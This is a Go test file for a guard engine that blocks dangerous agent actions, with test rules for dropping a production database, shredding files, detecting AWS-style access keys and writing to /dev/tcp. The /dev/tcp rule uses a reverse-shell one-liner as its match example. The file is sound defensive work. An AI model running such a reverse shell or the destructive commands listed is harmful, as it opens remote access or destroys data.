package guards

import (
	"strings"
	"testing"

	"github.com/bulwark-guard/bulwark/shell"
)

// testEngine compiles inline packs under a profile where every severity denies.
func testEngine(t *testing.T, toml string) (*Engine, PackSpec) {
	t.Helper()
	p, err := ParsePack("test.toml", []byte(toml))
	if err != nil {
		t.Fatal(err)
	}
	prof, _ := NewProfile(ProfileSpec{Name: "all", Packs: []string{"*"}, Actions: SeverityActions{"deny", "deny", "deny", "deny"}})
	e, err := NewEngine([]PackSpec{p}, prof)
	if err != nil {
		t.Fatal(err)
	}
	return e, p
}

func fired(e *Engine, on, example string) bool {
	act := ExampleAction(on, example)
	return len(e.Evaluate(&act).Hits) > 0
}

func TestConditions(t *testing.T) {
	e, pack := testEngine(t, `
family = "t"
title = "t"
[[guards]]
id = "t.assigns"
title = "prod env"
severity = "high"
on = "command"
commands = ["rails"]
args = 'db:drop'
assigns = '^(RAILS_ENV|RACK_ENV)=prod'
reason = "r"
instead = "i"
match = ["RAILS_ENV=production rails db:drop"]
not_match = ["rails db:drop"]

[[guards]]
id = "t.exclusions-only"
title = "bare name with only exclusions"
severity = "high"
on = "command"
commands = ["shred"]
not_args = '^--help$'
reason = "r"
instead = "i"
match = ["shred x"]
not_match = ["shred --help"]

[[guards]]
id = "t.key"
title = "key"
severity = "critical"
on = "output"
keywords = ["akia"]
pattern = 'AKIA[A-Z0-9]{16}'
not_pattern = 'EXAMPLE$'
reason = "r"
instead = "i"
match = ["AKIAIOSFODNN7EXAMPLE then AKIAFAKEFAKEFAKEFAKE"]
not_match = ["AKIAIOSFODNN7EXAMPLE only"]

[[guards]]
id = "t.devtcp"
title = "dev tcp"
severity = "critical"
on = "file"
access = "write"
paths = '^/dev/tcp/'
reason = "r"
instead = "i"
match = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
not_match = ["make 2>&1 | tee build.log"]
`)
	if err := CheckExamples([]PackSpec{pack}); err != nil {
		t.Fatal(err)
	}
	// A dynamic command name is judged only by guards that positively match
	// its arguments: exclusions alone must not fire on every `$CMD ...`.
	if fired(e, OnCommand, "$(GO) vet ./...") {
		t.Error("a guard made of exclusions fired on a dynamic command name")
	}
}

func TestHasFlag(t *testing.T) {
	w := func(args ...string) (out []shell.Word) {
		for _, a := range args {
			out = append(out, shell.Word{Value: a})
		}
		return out
	}
	tests := []struct {
		args []shell.Word
		flag string
		want bool
	}{
		{w("-rf", "x"), "-r", true},
		{w("-fr", "x"), "-r", true},
		{w("-f", "x"), "-r", false},
		{w("--recursive"), "--recursive", true},
		{w("--force-with-lease"), "--force", false},
		{w("--force=true"), "--force", true},
		{w("-n5"), "-5", false},
		{w("-o=file"), "-o", true},
		{w("--", "-rf"), "-r", false},
		{w("-delete"), "-delete", true},
		{w("-name", "x"), "-delete", false},
	}
	for _, tt := range tests {
		if got := hasFlag(tt.args, tt.flag); got != tt.want {
			t.Errorf("hasFlag(%v, %s) = %v, want %v", tt.args, tt.flag, got, tt.want)
		}
	}
}

func TestValidationErrorsNameGuard(t *testing.T) {
	for _, tt := range []struct{ toml, want string }{
		{"family = \"x\"\ntitle = \"t\"\nbogus = 1\n[[guards]]\nid = \"x.a\"", "unknown keys: bogus"},
		{"family = \"x\"\ntitle = \"t\"\n[[guards]]\nid = \"y.a\"\ntitle=\"t\"\nseverity=\"high\"\non=\"command\"\ncommands=[\"a\"]\nreason=\"r\"\ninstead=\"i\"\nmatch=[\"a\"]\nnot_match=[\"b\"]", "must start with the pack's family"},
		{"family = \"x\"\ntitle = \"t\"\n[[guards]]\nid = \"x.a\"\ntitle=\"t\"\nseverity=\"high\"\non=\"command\"\ncommands=[\"a\"]\nargs='('\nreason=\"r\"\ninstead=\"i\"\nmatch=[\"a\"]\nnot_match=[\"b\"]", "guard x.a: args"},
		{"family = \"x\"\ntitle = \"t\"\n[[guards]]\nid = \"x.a\"\ntitle=\"t\"\nseverity=\"severe\"\non=\"command\"\ncommands=[\"a\"]\nreason=\"r\"\ninstead=\"i\"\nmatch=[\"a\"]\nnot_match=[\"b\"]", "unknown severity"},
		{"family = \"x\"\ntitle = \"t\"\n[[guards]]\nid = \"x.a\"\ntitle=\"t\"\nseverity=\"high\"\non=\"output\"\npattern='a'\nreason=\"r\"\ninstead=\"i\"\nmatch=[\"a\"]\nnot_match=[\"b\"]", "needs keywords"},
		{"family = \"x\"\ntitle = \"t\"\n[[guards]]\nid = \"x.a\"\ntitle=\"t\"\nseverity=\"high\"\non=\"command\"\ncommands=[\"a\"]\npattern='a'\nreason=\"r\"\ninstead=\"i\"\nmatch=[\"a\"]\nnot_match=[\"b\"]", "pattern does not apply"},
		{"family = \"x\"\ntitle = \"t\"\n[[guards]]\nid = \"x.a\"\ntitle=\"t\"\nseverity=\"high\"\non=\"command\"\ncommands=[\"a\"]\nreason=\"r\"\ninstead=\"i\"\nmatch=[\"a\"]", "harmless look-alike"},
	} {
		_, err := ParsePack("bad.toml", []byte(tt.toml))
		if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "bad.toml") {
			t.Errorf("want error containing %q and the file name, got %v", tt.want, err)
		}
	}
}
